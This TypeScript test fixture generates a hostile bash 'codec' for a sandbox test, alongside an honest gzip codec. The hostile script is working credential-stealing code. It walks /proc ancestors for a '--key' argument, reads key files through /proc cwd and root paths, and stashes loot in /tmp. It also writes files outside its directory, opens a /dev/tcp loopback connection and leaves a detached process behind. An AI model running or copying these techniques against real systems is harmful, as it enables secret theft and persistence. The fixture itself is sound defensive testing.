/**
 * The hostile codec of test/sandbox/hostile-codec.test.ts: a bash script that
 * speaks the protocol and gzips correctly, and on every call (info included)
 * first tries what issue 9 saw a codec do to an unsealed maintainer:
 * - find the key: walk PPid up through /proc/<pid>/status, read each ancestor's
 *   cmdline for `--key`, read the key through /proc/<pid>/cwd and /proc/<pid>/root,
 *   through every /proc/<pid>/cwd/keys/caqbench.key, and by its absolute path;
 *   whatever it gets it stashes in LOOT (outside its work dir) and in /tmp;
 * - write outside its work dir: /tmp, the bundle, the key's folder, its own folder;
 * - connect to a loopback listener (bash's /dev/tcp);
 * - leave a detached process running (`caq-leftover-<tag>`, in its own session).
 * With the argument `loud` it then prints everything it found, and the key file
 * by its absolute path, to stderr, and exits 1 on compress.
 */
export interface HostileTargets {
  tag: string;
  keyPath: string;
  bundleDir: string;
  loot: string;
  port: number;
}

export function hostileScript(t: HostileTargets): string {
  const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;
  return `#!/bin/bash
TAG=${q(t.tag)}; KEY=${q(t.keyPath)}; BUNDLE=${q(t.bundleDir)}; LOOT=${q(t.loot)}; PORT=${t.port}
HERE=$(dirname -- "$0")
LOUD=0; if [ "\${1:-}" = loud ]; then LOUD=1; shift; fi
FOUND=""
stash() {
  local what=$1 from=$2 got
  got=$(cat -- "$from" 2>/dev/null) || return 0
  [ -n "$got" ] || return 0
  FOUND="$FOUND
$what: $got"
  printf '%s\\n' "$got" > "$LOOT/stolen-$what-$$" 2>/dev/null
  printf '%s\\n' "$got" > "/tmp/caq-loot-$TAG-$what-$$" 2>/dev/null
}
attack() {
  local pid=$$ parent arg prev
  for _ in 1 2 3 4 5 6 7 8 9 10; do
    parent=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$pid/status" 2>/dev/null)
    [ -n "$parent" ] && [ "$parent" -gt 0 ] || break
    prev=""
    while IFS= read -r -d '' arg; do
      if [ "$prev" = --key ]; then stash cwd "/proc/$parent/cwd/$arg"; stash root "/proc/$parent/root/$arg"; fi
      prev=$arg
    done < "/proc/$parent/cmdline" 2>/dev/null
    pid=$parent
  done
  for p in /proc/[0-9]*; do stash "scan" "$p/cwd/keys/caqbench.key"; done
  stash abs "$KEY"
  for dir in /tmp "$BUNDLE" "$(dirname -- "$KEY")" "$HERE" "$LOOT"; do
    echo pwned > "$dir/pwned-$TAG-$$" 2>/dev/null
  done
  (exec 3<>"/dev/tcp/127.0.0.1/$PORT" && echo "hello from $$" >&3) 2>/dev/null
  setsid bash -c "exec -a caq-leftover-$TAG sleep 600" </dev/null >/dev/null 2>&1 &
}
attack
case "\${1:-}" in
  info) echo '{"name":"hostile","version":"1","lossless":true,"deterministic":true}' ;;
  compress)
    if [ "$LOUD" = 1 ]; then printf 'found:%s\\n' "$FOUND" >&2; cat -- "$KEY" >&2; exit 1; fi
    exec gzip -n -9 -c -- "$2" > "$3" ;;
  decompress) exec gzip -d -c -- "$2" > "$3" ;;
  *) exit 2 ;;
esac
`;
}

/** An honest codec: the same protocol and gzip, nothing else. */
export const HONEST_SCRIPT = `#!/bin/sh
set -eu
case "$1" in
  info) echo '{"name":"honest","version":"1","lossless":true,"deterministic":true}' ;;
  compress) exec gzip -n -9 -c -- "$2" > "$3" ;;
  decompress) exec gzip -d -c -- "$2" > "$3" ;;
  *) exit 2 ;;
esac
`;
